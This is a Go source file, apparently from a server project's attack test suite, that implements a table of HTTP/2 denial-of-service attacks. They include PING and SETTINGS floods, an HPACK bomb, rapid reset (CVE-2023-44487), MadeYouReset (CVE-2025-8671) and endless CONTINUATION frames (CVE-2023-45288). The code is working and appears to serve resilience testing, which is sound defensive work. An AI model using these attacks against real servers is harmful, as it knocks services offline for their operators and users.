package corpus

import (
	"bytes"
	"context"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/realmkeeper/realmkeeper/test/attack/attacker"
	"github.com/realmkeeper/realmkeeper/test/attack/h2"
)

// The attacks with HTTP/2.
var http2Attacks = map[string]attacker.Attack{
	"HTTP 2 without a preface":              {Connections: many, Converse: noPreface},
	"HTTP 2 PING flood":                     {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })},
	"HTTP 2 SETTINGS flood":                 {Connections: few, Converse: frames(true, settings)},
	"HTTP 2 SETTINGS flood without reading": {Connections: few, Converse: frames(false, settings)},
	"HTTP 2 PRIORITY flood":                 {Connections: few, Converse: frames(true, priority)},
	"HTTP 2 WINDOW_UPDATE flood":            {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) })},
	"HTTP 2 frame of 16 MiB": {Connections: few, Converse: frames(true, func(f *http2.Framer, id uint32) error {
		return f.WriteRawFrame(http2.FrameData, 0, id, make([]byte, 1<<24-1))
	})},
	"HTTP 2 HPACK bomb":               {Connections: few, Converse: hpackBomb},
	"HTTP 2 rapid reset":              {Connections: few, Converse: streams(true, nil, rapidReset)},
	"HTTP 2 made you reset":           {Connections: few, Converse: streams(true, nil, madeYouReset)},
	"HTTP 2 endless CONTINUATION":     {Connections: few, Converse: streams(true, nil, continuation)},
	"HTTP 2 empty DATA":               {Connections: few, Converse: streams(true, nil, emptyData)},
	"HTTP 2 zero windows":             {Connections: many, Converse: streams(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, get)},
	"HTTP 2 without reading":          {Connections: many, Converse: streams(false, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}, get)},
	"HTTP 2 small table, large table": {Connections: few, Converse: streams(true, nil, tableSizes)},
}

func noPreface(ctx context.Context, s *attacker.Session) error {
	c, err := s.TLS(ctx, "h2")
	if err != nil {
		return err
	}
	defer c.NetConn().Close()
	s.Requested()
	return hold(c)
}

// frames returns an attack that sends a frame again and again, and reads the responses or not. The
// frame is written with the ID of a stream that is not open.
func frames(read bool, write func(f *http2.Framer, id uint32) error) func(context.Context, *attacker.Session) error {
	return streams(read, nil, func(f *http2.Framer, _ []byte, id uint32) error { return write(f, id) })
}

// streams returns an attack that does something with one stream after the other. request is the
// header block of a complete GET.
func streams(read bool, settings []http2.Setting, write func(f *http2.Framer, request []byte, id uint32) error) func(context.Context, *attacker.Session) error {
	return func(ctx context.Context, s *attacker.Session) error {
		c, err := h2.Open(ctx, s, settings...)
		if err != nil {
			return err
		}
		defer c.Close()
		if read {
			c.Read()
		}
		request := h2.Headers(s, "GET", s.Get, 0)
		for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
			if err := write(c.Framer, request, id); err != nil {
				return err
			}
			s.Requested()
		}
		return nil
	}
}

func settings(f *http2.Framer, id uint32) error {
	return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: id}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: id})
}

// priority makes streams depend on each other, and on themselves.
func priority(f *http2.Framer, id uint32) error {
	return f.WritePriority(id, http2.PriorityParam{StreamDep: id + 2 - id%4, Exclusive: true, Weight: 255})
}

func get(f *http2.Framer, request []byte, id uint32) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true, EndStream: true})
}

// rapidReset cancels each request immediately (CVE-2023-44487).
func rapidReset(f *http2.Framer, request []byte, id uint32) error {
	if err := get(f, request, id); err != nil {
		return err
	}
	return f.WriteRSTStream(id, http2.ErrCodeCancel)
}

// madeYouReset makes the server cancel each request, with an invalid window (CVE-2025-8671).
func madeYouReset(f *http2.Framer, request []byte, id uint32) error {
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true})
	if err != nil {
		return err
	}
	return f.WriteWindowUpdate(id, 0)
}

// continuation sends headers that never end (CVE-2023-45288).
func continuation(f *http2.Framer, request []byte, id uint32) error {
	if id == 1 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request})
	}
	var block bytes.Buffer
	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x-fill", Value: strings.Repeat(`\`, 8<<10), Sensitive: true}) // a buffer doesn't fail
	return f.WriteContinuation(1, false, block.Bytes())
}

func emptyData(f *http2.Framer, request []byte, id uint32) error {
	if id == 1 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request, EndHeaders: true})
	}
	return f.WriteData(1, false, nil)
}

// tableSizes changes the size of the compression table in each request.
func tableSizes(f *http2.Framer, request []byte, id uint32) error {
	sizes := []byte{0x20, 0x3f, 0xe1, 0x1f} // 0, then 4096 (RFC 7541 section 6.3)
	return get(f, append(sizes, request...), id)
}

// hpackBomb puts a large header in the compression table and refers to it thousands of times.
func hpackBomb(ctx context.Context, s *attacker.Session) error {
	c, err := h2.Open(ctx, s)
	if err != nil {
		return err
	}
	defer c.Close()
	c.Read()
	var first bytes.Buffer
	_ = hpack.NewEncoder(&first).WriteField(hpack.HeaderField{Name: "x-fill", Value: strings.Repeat(`\`, 3<<10)}) // a buffer doesn't fail
	request := append(h2.Headers(s, "GET", s.Get, 0), first.Bytes()...)
	const newest = 0x80 | 62 // the index of the newest entry of the table (RFC 7541 section 2.3.3)
	bomb := append(h2.Headers(s, "GET", s.Get, 0), bytes.Repeat([]byte{newest}, 12<<10)...)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		block := bomb
		if id == 1 {
			block = request
		}
		if err := get(c.Framer, block, id); err != nil {
			return err
		}
		s.Requested()
	}
	return nil
}
